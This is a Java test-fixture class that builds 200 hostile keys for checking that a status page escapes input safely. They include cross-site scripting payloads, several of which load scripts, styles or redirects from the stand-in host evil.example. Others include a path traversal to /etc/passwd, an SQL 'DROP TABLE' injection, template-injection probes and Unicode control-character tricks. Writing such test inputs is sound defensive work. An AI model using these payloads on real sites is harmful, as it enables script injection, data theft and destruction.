package dev.waybill.status;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Keys that attack a page, each at most 1,024 bytes long in UTF-8. */
public final class HostileKeys {
  private static final int MAX_BYTES = 1024;

  private static final List<String> PAYLOADS =
      List.of(
          "<script>window.hit=1</script>",
          "</bdi></td></table></main><script src=//evil.example/x.js></script>",
          "<img src=x onerror=window.hit=1>",
          "<svg onload=window.hit=1><circle r=9 /></svg>",
          "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
          "\" autofocus onfocus=window.hit=1 x=\"",
          "' onmouseover='window.hit=1' style='position:fixed;inset:0",
          "\"><iframe srcdoc=\"<script>parent.hit=1</script>\">",
          "javascript:window.hit=1",
          "<style>*{background:url(//evil.example/css)}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content=0;url=//evil.example/>",
          "<base href=//evil.example/>",
          "<form action=//evil.example/><button>x",
          "<a href=//evil.example ping=//evil.example>x</a>",
          "<object data=//evil.example/x.swf></object>",
          "<template shadowrootmode=open><script>hit=1</script></template>",
          "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hit=1>",
          "&lt;script&gt;hit=1&lt;/script&gt; &#60;b&#62; &amp;",
          "<!-- --> <![CDATA[ ]]> <?xml ?>",
          "\u202egpj.exe\u202c \u2066rtl\u2069 \u200f\u061c",
          "\u0000nul \u0007bell \u001b[31mred\u001b[0m \u009b2J",
          "\u200bzero\u200dwidth\ufeffmark\u2060joiner",
          "e\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343\u036a",
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddfa\ud83c\uddf3",
          "\u6f22\u5b57 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
          "${7*7} {{7*7}} #{7*7} @{7*7} !{7*7} ${env:PATH}",
          "a\tb  c",
          "../../../../etc/passwd?x=1#y&z=%3Cscript%3E",
          "'; DROP TABLE status; --",
          "`window.hit=1` ${window.hit=1}",
          "<plaintext>",
          "<textarea><title><noscript><xmp>",
          "</title></style></svg></figure>");

  /** The keys. */
  public static final List<String> ALL = all();

  private HostileKeys() {}

  private static List<String> all() {
    List<String> keys = new ArrayList<>();
    for (int round = 0; keys.size() < 200; round++) {
      for (String payload : PAYLOADS) {
        if (keys.size() < 200) {
          keys.add(key(payload, round, keys.size()));
        }
      }
    }
    return List.copyOf(keys);
  }

  /** Later rounds put the payload behind and between other text, up to the longest key. */
  private static String key(String payload, int round, int number) {
    String key =
        switch (round) {
          case 0 -> payload;
          case 1 -> "incoming/" + payload;
          case 2 -> payload + payload + payload;
          case 3 -> "\"'>" + payload;
          case 4 -> "-->" + payload + "<!--";
          default -> "x".repeat(200) + payload;
        };
    String unique = key + " " + number;
    boolean isLong = number % 4 == 3;
    return isLong ? filled(unique) : unique;
  }

  private static String filled(String key) {
    int free = MAX_BYTES - key.getBytes(StandardCharsets.UTF_8).length;
    return key + "y".repeat(Math.max(0, free));
  }
}
